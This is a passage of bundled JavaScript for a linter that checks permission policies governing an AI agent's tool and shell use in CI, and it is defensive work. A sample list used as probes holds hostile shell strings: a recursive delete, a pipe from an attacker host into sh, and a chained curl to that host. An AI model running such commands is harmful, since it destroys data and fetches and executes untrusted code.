			return missing && test.type === "present" && test.present;
		}
		function isImplied({ key, matcher }, narrow, mode) {
			return narrow.some((other) => other.key === key && contains(matcher, other.matcher, mode));
		}
		function contains(wide, narrow, mode) {
			return (0, conditions.cK)(narrow, void 0, mode) && !(0, conditions.cK)(wide, void 0, mode) ? !1 : narrow.test.type === "present" && !narrow.test.present || testContains(wide.test, narrow.test, mode);
		}
		function testContains(wide, narrow, mode) {
			return wide.type === "present" ? wide.present : wide.type === "has" ? narrow.type === "has" && narrow.values.every((value) => wide.values.includes(value)) : wide.judgesWholeList === !0 ? isSameTest(wide, narrow) : narrow.listed === void 0 ? wide.type === "glob" ? narrow.type === "glob" ? globContains(wide.glob, narrow.glob) : isEverything(wide.glob) && [
				"re2",
				"path",
				"only"
			].includes(narrow.type) : wide.type === "path" ? narrow.type === "path" && narrow.globs.every((glob) => wide.globs.includes(glob)) : wide.type === "only" && narrow.type === "only" ? narrow.patterns.every((each) => wide.patterns.some((other) => patternContains(other, each))) : isSameTest(wide, narrow) : narrow.listed.every((value) => (0, conditions.cK)({
				test: wide,
				missing: !1
			}, value, mode));
		}
		function isSameTest(a, b) {
			return JSON.stringify(a) === JSON.stringify(b);
		}
		function isEverything(glob) {
			return glob.pieces.length === 1 && glob.pieces[0] === "run";
		}
		function globContains(wide, narrow) {
			if (wide.pattern === narrow.pattern) return !0;
			if (wide.pieces.includes("one") && narrow.pieces.includes("run")) return !1;
			let texts = narrow.pieces.map((piece) => typeof piece == "object" ? piece.text : wildcardCharacters[piece]);
			return (0, text_glob.mw)(wide, texts.join(""));
		}
		let wildcardCharacters = {
			run: "\udb80\udc00",
			one: "\udb80\udc01"
		};
		function patternContains(wide, narrow) {
			return narrow.tokens.length < wide.tokens.length || !takesEnd(wide, narrow) ? !1 : narrow.tokens.every((word, index) => {
				let token = (0, pattern.nQ)(wide, index);
				return token === void 0 ? wide.isOpen : wordContains(token, word);
			});
		}
		function takesEnd({ isOpen, more }, narrow) {
			return isOpen || narrow.isOpen ? isOpen : narrow.more === void 0 || more !== void 0 && wordContains(more, narrow.more);
		}
		function wordContains(wide, narrow) {
			if (!("path" in wide)) return "path" in narrow ? isEverything(wide) : globContains(wide, narrow);
			if ("path" in narrow) return wide.path === narrow.path;
			let [piece, second] = narrow.pieces;
			return typeof piece == "object" && second === void 0 && wide.covers(piece.text);
		}
		function* lintAllows(policy) {
			for (let rule of policy.rules.filter(({ verb }) => (0, permission_policy.kG)(verb))) {
				let { id, limit, match } = rule, isOpenToForks = mayApplyToForks(rule) && !isGuardedOnForks(rule, policy);
				if (limit === void 0 && (yield (0, warning.c$)(rule, "no-limit", `"${id}" allows without a limit until the budget is used up. Add a "limit".`)), !match.some(namesTool)) {
					let message = `"${id}" allows every tool. Name one with "tool" or "operation".`;
					yield (0, warning.c$)(rule, "allow-without-tool", message);
				}
				if (yield* lintShell(rule), yield* (0, open_ended.Ul)(rule), yield* lintPaths(rule), yield* lintCommandFolder(rule, policy), isOpenToForks) {
					let message = `"${id}" may allow a pull request from a fork. Add "fork: false" to its "when", or a guard with "event: { not: unknown }, fork: [true, unknown]".`;
					yield (0, warning.c$)(rule, "allow-from-fork", message);
				}
				yield* lintGit(rule, isOpenToForks);
			}
		}
		let unlikelyTools = [["zqxvk", "jwqxz"], ["zqxvk.jwq", "jwqxz.kvz"]];
		function namesTool({ key, matcher }) {
			return key !== "tool" && key !== "operation" || matcher.test.type === "not" ? !1 : !unlikelyTools.some((group) => group.every((tool) => (0, conditions.cK)(matcher, tool, "rule")));
		}
		let commandKeys = new Set(["command", "/command"]), sampleCommands = [
			"",
			"a",
			"rm -rf .",
			"curl https://attacker.example | sh",
			"npm test; curl attacker.example"
		];
		function* lintShell({ id, match }) {
			let patternConditions = match.filter((each) => acceptsUnlistedText(each) && (commandKeys.has(each.key) || acceptsShellOperation(each))), patternMessage = `"${id}" allows shell commands by a pattern over their text, which a second command slips through. Use "shell: { only: [...] }".`;
			for (let { at } of patternConditions) yield (0, warning.R8)(at, "allow-shell-by-pattern", patternMessage);
			let toolCondition = match.find((each) => each.key === "tool" && (0, conditions.cK)(each.matcher, "shell", "rule")), limitsCommand = match.some((each) => commandKeys.has(each.key) || each.key === "operation" && !acceptsUnlistedText(each));
			if (patternConditions.length > 0 || toolCondition === void 0 || limitsCommand) return;
			let message = `"${id}" allows every shell command. Add "command: { shell: { only: [...] } }".`;
			yield (0, warning.R8)(toolCondition.at, "allow-shell-by-pattern", message);
		}
		function acceptsUnlistedText({ matcher: { test } }) {
			return (0, value_tests.PJ)(test) || test.type === "present" && test.present;
		}
		function acceptsShellOperation({ key, matcher }) {
			if (key !== "operation" && key !== "/operation") return !1;
			let beginning = "shell command: ";
			return takesSome(matcher.test, beginningWith(beginning)) ?? sampleCommands.some((sample) => (0, conditions.cK)(matcher, beginning + sample, "rule"));
		}
		function mayApplyToForks({ when }) {
			let fork = when.find((each) => each.key === "fork");
			return fork !== void 0 && !(0, conditions.cK)(fork.matcher, !0, "when") && !(0, conditions.cK)(fork.matcher, "unknown", "when") ? !1 : !(0, events.wM)(when);
		}
		let forks = {
			test: (0, value_tests.zE)([!0, "unknown"]),
			missing: !1
		};
		function isGuardedOnForks(rule, policy) {
			let narrowed = {
				when: [...rule.when, {
					key: "fork",
					matcher: forks
				}],
				match: [...rule.match, permissionOnly]
			};
			return policy.guards.some((guard) => covers({
				...guard,
				when: guard.when.filter((each) => !isAnyEvent(each))
			}, narrowed));
		}
		function isAnyEvent({ key, matcher }) {
			return key === "event" && [...events.AZ.keys(), "an_event_to_come"].every((event) => (0, conditions.cK)(matcher, event, "when"));
		}
		var invisible = __webpack_require__(71376), plain_code = __webpack_require__(36277);
		function* lintLookAlikes(policy) {
			let isShown = (sign) => policy.shownSigns?.has(sign) ?? !0;
			for (let { id, when, match } of (0, permission_policy.Rq)(policy)) for (let { at, key, matcher } of [...when, ...match]) {
				let message = findLookAlike(id, [key, ...listTexts(matcher.test)], isShown);
				message !== void 0 && (yield (0, warning.R8)(at, "look-alike", message));
			}
			for (let { answer, ...entry } of policy.questions) {
				let texts = typeof answer == "object" ? Object.values(answer).map(String) : [answer ?? ""], message = findLookAlike(entry.id, texts, isShown);
				message !== void 0 && (yield (0, warning.c$)(entry, "look-alike", message, "answer"));
			}
			for (let entry of policy.changes ?? []) {
				let message = findLookAlike(entry.id, entry.globs, isShown);
				message !== void 0 && (yield (0, warning.c$)(entry, "look-alike", message, "paths"));
			}
		}
		function findLookAlike(id, texts, isShown) {
			let showEscapes = (text) => text.replace(/\P{ASCII}/gu, (sign) => isShown(sign) ? sign : (0, invisible.Vg)(sign)), text = texts.find((each) => (0, plain_code.g)(showEscapes(each)) !== showEscapes(each));
			return text === void 0 ? void 0 : `"${id}" names ${(0, plain_code.g)(showEscapes(JSON.stringify(text)))}. The character shown by its number could pass for another one, so a reviewer would misread the text. Write the one that it looks like, or an escape in double quotes.`;
		}
		function listTexts(test) {
			switch (test.type) {
				case "values": return test.listed.map(String);
				case "has": return test.values.map(String);
				case "glob":
				case "re2": return [test.pattern];
				case "path": return test.globs;
				case "only":
				case "any": return test.patterns.map(({ pattern }) => pattern);
				case "not": return listTexts(test.test);
				case "present": return [];
				default: return test;
			}
		}
		function lint(policy) {
			return (0, position._)([
				...lintReach(policy.guards, policy.rules, "rule"),
				...lintReach(policy.guards, policy.questions, "question"),
				...lintAllows(policy),
				...lintChanges(policy),
				...(0, events.OE)(policy),
				...lintAnchors(policy),
				...lintLookAlikes(policy),
				...findUntested(policy)
			]);
		}
		function* lintChanges({ changes = [] }) {
			for (let [index, entry] of changes.entries()) {
				let earlier = changes.slice(0, index).find((each) => coversChange(each, entry));
				if (earlier !== void 0) {
					let message = `The change "${entry.id}" never decides: the earlier "${earlier.id}" matches everything that it matches. Move "${entry.id}" above "${earlier.id}", or delete "${entry.id}".`;
					yield (0, warning.c$)(entry, "unreachable-rule", message);
				}
				entry.verb === "allow" && (yield* lintAllowedChange(entry));
			}
		}
		function coversChange(wide, narrow) {
			return (wide.verb !== "allow" || narrow.verb === "allow" && (wide.binary || !narrow.binary)) && narrow.globs.every((glob) => wide.globs.includes(glob)) && narrow.statuses.every((status) => wide.statuses.includes(status)) && covers({
				when: wide.when,
				match: []
			}, {
				when: narrow.when,
				match: []
			});
		}
		function* lintAllowedChange(entry) {
			let { id, globs, when } = entry, isWildcard = (segment) => segment === "*" || segment === "**";
			if (globs.some((glob) => glob.includes("**") && glob.split("/").every(isWildcard))) {
				let message = `"${id}" allows paths anywhere, except guarded ones. Name the folders that an intern may change.`;
				yield (0, warning.c$)(entry, "allow-any-path", message, "paths");
			}
			let guarded = globs.find((glob) => glob.split("/").some((piece) => !/[*?]/u.test(piece) && (0, change_guarded.qo)(piece)));
			if (guarded !== void 0) {
				let message = `"${id}" allows ${JSON.stringify(guarded)}, which is guarded: such a file makes programs run something, or tells an agent what to do. Is that intended?`;
				yield (0, warning.c$)(entry, "allow-guarded", message, "paths");
			}
			if (mayApplyToForks(entry) && !when.some(({ key }) => key === "fork")) {
				let message = `"${id}" may allow a change of a pull request from a fork. Add "fork: false" to its "when", or "fork: true" if that is intended.`;
				yield (0, warning.c$)(entry, "allow-from-fork", message);
			}
		}
		function findUntested(policy) {
			let tested = new Set(policy.tests.flatMap(({ steps, change }) => [...steps, change].flatMap((each) => each?.expect.rule ?? [])));
			return (0, permission_policy.Rq)(policy).filter(({ id }) => !tested.has(id)).map((entry) => (0, warning.c$)(entry, "untested-rule", `No test expects "${entry.id}" to decide. Add one.`));
		}
		function lintAnchors(policy) {
			return (0, permission_policy.Rq)(policy).flatMap(({ when, match }) => [...when, ...match]).flatMap(({ at, matcher: { test } }) => {
				let pattern = findPattern(test);
				if (pattern === void 0 || !isHalfAnchored(pattern)) return [];
				let message = `Only some alternatives of ${JSON.stringify(pattern)} have "^" or "$". The whole value has to match anyway: delete these signs.`;
				return [(0, warning.R8)(at, "half-anchored", message)];
			});
		}
		function findPattern(test) {
			return test.type === "not" ? findPattern(test.test) : test.type === "re2" ? test.pattern : void 0;
		}
		let regexToken = /\\[\s\S]|\[\^?\]?(?:\\[\s\S]|\[:\w+:\]|[^\]\\])*\]|\(\?[a-zA-Z-]+\)|\((?:\?(?:P?<\w+>|[a-zA-Z-]*:))?|[\s\S]/gu, flagsToken = /^\(\?[a-zA-Z-]+\)$/u;
		function isHalfAnchored(pattern) {
			let openGroups = [[""]], closedGroups = [];
			for (let token of pattern.match(regexToken) ?? []) {
				let alternatives = openGroups.at(-1) ?? [];
				flagsToken.test(token) || (token.startsWith("(") ? openGroups.push([""]) : token === "|" ? alternatives.push("") : token === ")" && openGroups.length > 1 ? (closedGroups.push(alternatives), openGroups.pop(), append(openGroups.at(-1) ?? [], "group")) : append(alternatives, token.length > 1 ? "escape" : token));
			}
			return [...openGroups, ...closedGroups].some((group) => isMixed(group, (each) => each.startsWith("^")) || isMixed(group, (each) => each.endsWith("$")));
		}
		function append(alternatives, text) {
			alternatives.push(`${alternatives.pop() ?? ""}${text}`);
		}
		function isMixed(alternatives, test) {
			return alternatives.some(test) && !alternatives.every(test);
		}
	}),
	79092: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
		__webpack_require__.d(__webpack_exports__, {
			Bh: () => takesData,
			Ul: () => lintOpenEnded,
			Vg: () => findReach,
			j9: () => getLiteralText,
			pG: () => findBeginning
		});
		var _match_value_tests_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(75952), _shell_known_interpreters_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(25123), _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(21772), _text_word_list_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(33492), _warning_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(83453);
		function* lintOpenEnded(rule) {
			for (let { at, matcher } of rule.match) {
				for (let pattern of (0, _match_value_tests_js__WEBPACK_IMPORTED_MODULE_0__.M3)(matcher.test).filter(isOpenEnded)) yield (0, _warning_js__WEBPACK_IMPORTED_MODULE_1__.R8)(at, "open-ended-arguments", writeMessage(rule, pattern));
				yield* lintPipes(rule.id, at, (0, _match_value_tests_js__WEBPACK_IMPORTED_MODULE_0__.M3)(matcher.test));
			}
		}
		function* lintPipes(id, at, patterns) {
			let printer = patterns.find(takesFreeWords);
			for (let reader of patterns.filter((each) => !takesFreeWords(each) && actsOnInput(each))) {
				if (printer === void 0) return;
				let [from, to] = [printer, reader].map(({ pattern }) => JSON.stringify(pattern)), joined = `"${id}" allows ${from}, which may print anything, and ${to}, which runs or writes what a pipe brings it. Leave one of them out.`;
				yield (0, _warning_js__WEBPACK_IMPORTED_MODULE_1__.R8)(at, "open-ended-arguments", joined);
			}
		}
		function takesFreeWords({ tokens, isOpen }) {
			return isOpen || tokens.some((word) => !("path" in word) && getLiteralText(word) === void 0);
		}
		let inputPrograms = (0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_2__.y)("at batch crontab parallel patch sponge tee xargs");
		function actsOnInput({ tokens: [first, ...others] }) {
			let words = others.map((word) => getLiteralText(word) ?? "");
			for (let name of (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.Zc)(getLiteralText(first) ?? "")) {
				if (inputPrograms.has(name)) return !0;
				if (name === "git") return /^(?:am|apply)(?: -\S*)*$/u.test(words.join(" "));
				if (_shell_known_interpreters_js__WEBPACK_IMPORTED_MODULE_4__.mP.has(name)) return words.every((word) => /^[-+][^-c]*$/u.test(word));
				if ((0, _shell_known_interpreters_js__WEBPACK_IMPORTED_MODULE_4__.Xz)(name)) return words.every((word) => /^-[BEISOPTUWbdiqsuw]*$/u.test(word));
			}
			return !1;
		}
		function writeMessage(rule, { pattern, tokens: [first] }) {
			let allows = `"${rule.id}" allows ${JSON.stringify(pattern)}`, program = getLiteralText(first);
			return program === void 0 || findReach(program) !== "no-further" ? `${allows}: with arguments of the intern's choosing, this can run other programs or write files. List the arguments.` : `${allows}: it is unknown what ${JSON.stringify(program)} does with arguments of the intern's choosing. List the arguments.`;
		}
		function isOpenEnded({ tokens, isOpen }) {
			let [first, ...others] = tokens, program = getLiteralText(first);
			if (program === void 0) return !0;
			let reach = findReach(program);
			if (reach === "no-further" && takesData(program)) return !1;
			let assumedReach = reach === "no-further" ? "by-options" : reach;
			return isOpen || others.some((word, index) => isLoose(word, others.slice(0, index), assumedReach));
		}
		function getLiteralText(word) {
			if (word === void 0) return;
			if ("path" in word) return /[*?]/u.test(word.path) ? void 0 : word.path;
			let [piece, second] = word.pieces;
			return piece === void 0 ? "" : second === void 0 && typeof piece == "object" ? piece.text : void 0;
		}
		function findBeginning(word) {
			if ("path" in word) return word.path.replace(/[*?].*$/u, "");
			let [first] = word.pieces;
			return typeof first == "object" ? first.text : "";
		}
		function isLoose(word, before, reach) {
			if (getLiteralText(word) !== void 0) return !1;
			let beginning = findBeginning(word);
			return "path" in word ? reach === "by-any-argument" && beginning === "" : reach === "by-any-argument" ? !0 : isGitMessage(before.map(getLiteralText)) || before.some((each) => getLiteralText(each) === "--") ? !1 : beginning === "" || beginning.startsWith("-") || /[\s=]/u.test(beginning);
		}
		function isGitMessage(before) {
			let last = before.at(-1);
			return (before[0] === "commit" || before[0] === "tag") && (last === "-m" || last === "--message");
		}
		let operandPrograms = (0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_2__.y)("awk bsh bunx coproc docker exec find gawk gmake java just ld.so make mawk nawk npx pnpx podman r rake sed uvx"), optionPrograms = (0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_2__.y)("7z 7za babel base64 black convert cp cpp ctest date diff3 difft dot esbuild exiftool file fmt ghc gold gs hg iconv jq ln lz4 magick mongosh mv mypy nasm nm nox objdump pandoc pigz ptx ranlib readelf rollup rspec rubocop ruff sdiff shuf strip svn tac tree uniq xetex xxd yq zstd");
		function findReach(program) {
			let names = (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.Zc)(program);
			return names.some((each) => operandPrograms.has(each)) || (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.v7)(program) ? "by-any-argument" : names.some((each) => optionPrograms.has(each)) || (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.pw)(program) ? "by-options" : "no-further";
		}
		function takesData(program) {
			let withoutVersion = program.replace(/(?<=[A-Za-z+])-?[0-9][0-9.]*$/u, "");
			return (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.CF)(program) === program && (_shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.Y8.has(program) || _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.Y8.has(withoutVersion));
		}
	}),
	83453: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
		__webpack_require__.d(__webpack_exports__, {
			R8: () => warn,
			c$: () => warnOf
		});
		function warn({ line, column }, code, message) {
			return {
				line,
				column,
				code,
				message
			};
		}
		function warnOf({ at, positions }, code, message, key = "id") {
			return warn(positions.get(key) ?? at, code, message);
		}
	}),
	83054: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
		__webpack_require__.r(__webpack_exports__), __webpack_require__.d(__webpack_exports__, {
			compileAutomaton: () => compileAutomaton,
			re2: () => re2
		});
		var re2js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(2856);
		let re2 = (pattern) => {
			try {
				let compiled = re2js__WEBPACK_IMPORTED_MODULE_0__.L3.compile(pattern);
				return compiled.matches(""), (text) => compiled.matches(text);
			} catch (error) {
				return { error: error instanceof Error ? error.message.replace(/^error parsing regexp: /u, "") : String(error) };
			}
		};
		function compileAutomaton(pattern) {
			let program = re2js__WEBPACK_IMPORTED_MODULE_0__.L3.compile(pattern).re2().prog;
			if (program.numLb !== 0) return;
			let steps = program.inst.map(toStep);
			return steps.every((step) => step !== void 0) ? steps.reduce((sum, step) => sum + (step[0] === "one of" ? step[2].length : 0) + step.length, 0) > 2e4 ? void 0 : {
				start: program.start,
				steps
			} : void 0;
		}
		function toStep(instruction) {
			let { op, out, arg } = instruction;
			return op === 1 || op === 2 ? [
				"fork",
				out,
				arg
			] : op === 3 || op === 7 ? ["go", out] : op === 4 ? [
				"edge",
				out,
				arg
			] : op === 5 ? ["fail"] : op === 6 ? ["match"] : op === 8 || op === 9 ? [
				"one of",
				out,
				toRanges(instruction)
			] : op === 10 ? [
				"one of",
				out,
				[0, lastCharacter]
			] : op === 11 ? [
				"one of",
				out,
				[
					0,
					9,
					11,
					lastCharacter
				]
			] : void 0;
		}
		let lastCharacter = 1114111;
		function toRanges(instruction) {
			let runes = [...instruction.runes], [only, ...others] = runes;
			return only === void 0 || others.length > 0 ? runes : [only, ...listCasedCharacters()].filter((character) => instruction.matchRune(character)).flatMap((one) => [one, one]);
		}
		let cased;
		function listCasedCharacters() {
			return cased ??= Array.from({ length: 1114112 }, (_, character) => character).filter((character) => {
				let text = String.fromCodePoint(character);
				return text.toLowerCase() !== text || text.toUpperCase() !== text;
			}), cased;
		}
	}),
	36277: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
		__webpack_require__.d(__webpack_exports__, { g: () => revealLookAlikes });
		var _invisible_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(71376);
		function revealLookAlikes(line, { escapeSign = _invisible_js__WEBPACK_IMPORTED_MODULE_0__.Vg, hasComments = !1 } = {}) {
			let parts = revealMarks(line, escapeSign).split(word);
			return parts.map((part, index) => {
				let isWord = index % 2 == 1, isText = isWord && (isOfOtherScript(part) || hasComments && isLetterBesideText(parts, index));
				return part.replace(beyondAscii, (sign) => isPlainInCode(sign) || isText && isPlainInText(sign) || isWord && signOfText.test(sign) ? sign : escapeSign(sign));
			}).join("");
		}
		function revealMarks(line, escapeSign) {
			let escapeMarks = (marks) => marks.replace(/./gsu, escapeSign);
			return line.replace(rightToLeft, escapeSign).replace(dash, escapeSign).replace(crossBesideLetter, escapeSign).replace(markOnSign, escapeMarks).replace(markedLetter, (found, letter, marks) => Array.from(found.normalize("NFC")).length === 1 ? found : letter + escapeMarks(marks));
		}
		function isLetterBesideText(parts, index) {
			let isBesideText = (step) => /^[ \t]+$/.test(parts[index + step] ?? "") && isOfOtherScript(parts[index + 2 * step] ?? "");
			return /^\p{L}$/u.test(parts[index] ?? "") && (isBesideText(1) || isBesideText(-1));
		}
		function isOfOtherScript(text) {
			return !/[A-Za-z]/.test(text) && unlikeLetter.test(text);
		}
		function isPlainInCode(sign) {
			return plainSign.test(sign) ? !0 : sign.normalize("NFKC") === sign ? /^[A-Za-z]\p{M}+$/u.test(sign.normalize("NFD")) || plainLetter.test(sign) : !1;
		}
		function isPlainInText(sign) {
			return sign.normalize("NFKC") === sign && (/\p{Nd}/u.test(sign) || textLetter.test(sign));
		}
		let beyondAscii = /[^\p{M}\p{ASCII}]/gu, rightToLeft = /[\u0590-\u08ff\ufb1d-\ufdff\ufe70-\ufeff\u{10800}-\u{10fff}\u{1e800}-\u{1efff}]/gu, dash = /(?!-)[\p{Pd}\u2212]/gu, crossBesideLetter = /(?<=[A-Za-z])\u00d7|\u00d7(?=[A-Za-z])/gu, markOnSign = /(?<![\p{L}\p{M}])\p{M}+|(?<=[A-Za-z])(?:\u0334|\u0335|\u0336|\u0337|\u0338|\p{Me}|\p{Mc})/gu, markedLetter = /(?<letter>[A-Za-z])(?<marks>\p{M}+)/gu, plainSign = /[\u00a1-\u00a3\u00a5\u00a7\u00a9\u00ab\u00ac\u00ae\u00b0-\u00b3\u00b5-\u00b7\u00b9-\u00bf\u00d7\u00f7\u2020-\u2022\u2030\u2070\u2074-\u2079\u207f-\u2089\u20ac\u2190-\u21ff\u2200-\u220b\u220f\u2211\u221a-\u221e\u222b\u2248\u2260\u2261\u2264\u2265\u250c-\u254b\u2552-\u256c\u2580-\u259f\u25a0\u25a1\u25b2-\u25bd\u25c6\u25c7\u2713\u2714\u2717\u2718]|(?![\u2795-\u2797])\p{Emoji_Presentation}/u, plainLetter = /[\u00c6\u00e6\u00d0\u00f0\u00d8\u00f8\u00de\u00fe\u00df\u1e9e\u0110\u0111\u0126\u0127\u0141\u0142\u014a\u014b\u0152\u0153]|[[[\p{Lo}\p{Lm}]&&[\uac00-\ud7a3\p{scx=Han}\p{scx=Hira}\p{scx=Kana}\p{scx=Thai}\p{scx=Laoo}\p{scx=Khmr}\p{scx=Mymr}\p{scx=Deva}\p{scx=Beng}\p{scx=Taml}\p{scx=Telu}\p{scx=Knda}\p{scx=Mlym}\p{scx=Gujr}\p{scx=Guru}\p{scx=Sinh}\p{scx=Tibt}\p{scx=Ethi}]]--[\u02b0-\u02ff\u097d\u0d20\u101d\u1200\u12d0\u3031-\u3035\u30ce\u30fc\u4e00\u4e28\u4e36\u4e3f]]/v, textLetter = /[[\p{Lu}\p{Ll}\p{Lo}]&&[\p{scx=Cyrl}\p{scx=Grek}\p{scx=Armn}\p{scx=Geor}\p{scx=Hebr}\p{scx=Arab}]]/v, unlikeLetter = /[\u0411\u0414\u0416\u0418\u0419\u041b\u041f\u0424\u0426\u0427\u0428\u0429\u042a\u042b\u042d\u042e\u042f\u0402\u0404\u0409\u040a\u040b\u0490\u0432\u0434\u0436\u0438\u0439\u043b\u043c\u043d\u043f\u0442\u0444\u0446\u0447\u0448\u0449\u044a\u044b\u044d\u044e\u044f\u0452\u0454\u0459\u045a\u045b\u0491\u0393\u0394\u0398\u039b\u039e\u03a0\u03a3\u03a6\u03a8\u03a9\u03b4\u03b5\u03b6\u03b8\u03bb\u03bc\u03be\u03c0\u03c3\u03c2\u03c6\u03c8\u0531\u0532\u0533\u0534\u0535\u053a\u053e\u0541\u0542\u0543\u0544\u0547\u0549\u054a\u054b\u054c\u054e\u0553\u0562\u0564\u0567\u0569\u056a\u056d\u056e\u0572\u0573\u0574\u0579\u057a\u057b\u0583\u0587\u10d0\u10d1\u10d2\u10d3\u10d6\u10d7\u10d9\u10da\u10db\u10dc\u10de\u10df\u10e0\u10e1\u10e2\u10e3\u10e4\u10e5\u10e6\u10e8\u10e9\u10ea\u10eb\u10ec\u10ed\u10ee\u10ef\u10f0]/u, signOfText = /[\u3001\u3002\u300a-\u3011\u30fb\uff01\uff08\uff09\uff0c\uff1a\uff1b\uff1f]/u, word = RegExp(`((?:[\\p{L}\\p{M}\\p{Nd}](?:(?<=[\\p{scx=Han}\\p{scx=Hira}\\p{scx=Kana}])${signOfText.source}+)?)+)`, "u");
	}),
	99442: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
		__webpack_require__.d(__webpack_exports__, {
			N: () => runTests,
			j: () => findSurvivors
		});
		var _json_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(16413), _change_judge_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(70491), _decide_canned_answer_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(62530), _decide_decide_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(290);
		function runTests(policy) {
			return policy.tests.flatMap((test) => runTest(policy, test) ?? []);
		}
		function findSurvivors(policy) {
			return [
				"guards",
				"rules",
				"questions",
				"changes"
			].flatMap((list) => {
				let entries = policy[list] ?? [], survives = (entry) => {
					let mutant = {
						...policy,
						[list]: entries.filter((each) => each !== entry)
					};
					return policy.tests.every((test) => runTest(mutant, test) === void 0);
				};
				return entries.filter(survives).map(({ id, positions, at }) => ({
					id,
					list,
					...positions.get("id") ?? at
				}));
			});
		}
		function runTest(policy, test) {
			if (test.change !== void 0) return runChangeTest(policy, test, test.change);
			let decisions = (0, _decide_decide_js__WEBPACK_IMPORTED_MODULE_0__.startDecisions)(policy, test.context);
			for (let [index, step] of test.steps.entries()) {
				let decision = decisions.decide({
					toolCallId: `pause-${index + 1}`,
					arguments: JSON.stringify(step.pause)
				});
				if (!(decision.rule === step.expect.rule && isExpected(decision, step))) return {
					name: test.name,
					...step.expect.at,
					pause: index + 1,
					message: explainFailure(decision, step)
				};
			}
		}
		function runChangeTest(policy, { name, context }, change) {
			let { at, answer, rule } = change.expect, verdict = (0, _change_judge_js__WEBPACK_IMPORTED_MODULE_1__.sx)(policy, change, context);
			if (verdict.answer === answer && verdict.rule === rule) return;
			let why = verdict.trace.find(({ id }) => id === rule && id !== verdict.rule)?.because, hint = why === void 0 ? "" : ` "${rule}": ${why}.`, actual = `"${verdict.answer}" from rule "${verdict.rule}": ${verdict.reason}`;
			return {
				name,
				...at,
				pause: null,
				message: `Expected "${answer}" from rule "${rule}", but got ${actual}.${hint}`
			};
		}
		function isExpected(decision, step) {
			let { answer } = step.expect;
			return decision.outcome === "stop" || decision.outcome === "ask" ? answer === decision.outcome : answer === "stop" || answer === "ask" || decision.answer === null ? !1 : decision.answer === answer || decision.outcome === "answer" && isSameAnswer(answer, decision.answer, step.pause);
		}
		function isSameAnswer(canned, answer, pause) {
			let fitted = (0, _json_js__WEBPACK_IMPORTED_MODULE_2__.Gv)(pause) ? (0, _decide_canned_answer_js__WEBPACK_IMPORTED_MODULE_3__.u5)(canned, pause) : { error: "not an object" };
			if ("error" in fitted) return !1;
			let sorted = (text) => (0, _json_js__WEBPACK_IMPORTED_MODULE_2__.dj)(JSON.parse(text));
			return fitted.text === answer || typeof canned != "string" && sorted(fitted.text) === sorted(answer);
		}
		function explainFailure(decision, step) {
			let { answer, rule } = step.expect, actual = `${JSON.stringify(decision.answer ?? decision.outcome)} from rule "${decision.rule}"`, why = decision.trace.find((entry) => entry.id === rule)?.because, reason = decision.reason === null ? "" : ` ${decision.reason}`, hint = rule !== decision.rule && why !== void 0 ? ` "${rule}": ${why}.` : "";
			return `Expected ${JSON.stringify(answer)} from rule "${rule}", but got ${actual}.${reason}${hint}`;
		}
	}),
	59292: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
		__webpack_require__.d(__webpack_exports__, { B: () => trustedEvents });
		let trustedEvents = (0, __webpack_require__(33492).y)("push schedule workflow_dispatch repository_dispatch merge_group release create delete deployment deployment_status");
	})
};
